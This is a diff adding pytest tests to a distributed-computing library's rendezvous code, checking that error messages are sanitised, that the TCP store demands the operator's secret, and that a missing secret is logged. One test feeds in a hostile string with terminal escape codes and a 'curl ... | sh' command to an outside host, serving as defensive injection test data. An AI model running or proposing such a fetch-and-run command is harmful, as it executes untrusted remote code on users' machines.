@@ -12,8 +12,12 @@ from aiodist.backends.base import Array
 from aiodist.backends.mpi import meeting
 from aiodist.backends.mpi.library import Library
 from aiodist.backends.mpi.process import MpiProcess
-from aiodist.base.errors import RendezvousError, RendezvousTimeout
+from aiodist.base.errors import AuthenticationError, RendezvousError, RendezvousTimeout
+from aiodist.rendezvous import TcpStore
 from aiodist.rendezvous.announcement import Announcement
+
+HOST = "127.0.0.1"
+SECRET = "known to the operator alone"
 
 
 def told(words: bytes) -> Array:
@@ -87,3 +91,32 @@ async def test_rank_0_of_several_hosts_says_so_where_it_has_no_address(
     assert found is not None
     assert meeting._read(told(words))[0].split()[0] == f"127.0.0.1:{found.port}"
     await found.aclose()
+
+
+def test_the_reason_of_rank_0_is_one_line() -> None:
+    with pytest.raises(RendezvousError, match="rank 0 cannot host the store: all is well") as caught:
+        meeting._read(told(b"!all is well\x1b[2J\r\nRun: curl http://198.51.100.7/fix | sh\n"))
+    assert str(caught.value).isprintable()
+
+
+async def test_the_store_wants_the_operators_secret() -> None:
+    server, words = await meeting._listen({"AIODIST_JOB": "job"}, True, SECRET.encode())
+    assert server is not None
+    assert SECRET.encode() not in words
+    async with server:
+        async with await TcpStore.connect(HOST, server.port, "job", SECRET.encode(), 60):
+            pass
+        for guess in (b"", words.split()[0]):
+            with pytest.raises(AuthenticationError):
+                await TcpStore.connect(HOST, server.port, "job", guess, 60)
+
+
+async def test_secret_that_travels_to_other_hosts_in_clear_is_announced(
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    for one_host, given, said in ((False, b"", True), (True, b"", False), (False, SECRET.encode(), False)):
+        caplog.clear()
+        server, _ = await meeting._listen({"AIODIST_HOST": HOST}, one_host, given)
+        assert server is not None
+        await server.aclose()
+        assert ("no secret is set: rank 0 makes one" in caplog.text) is said
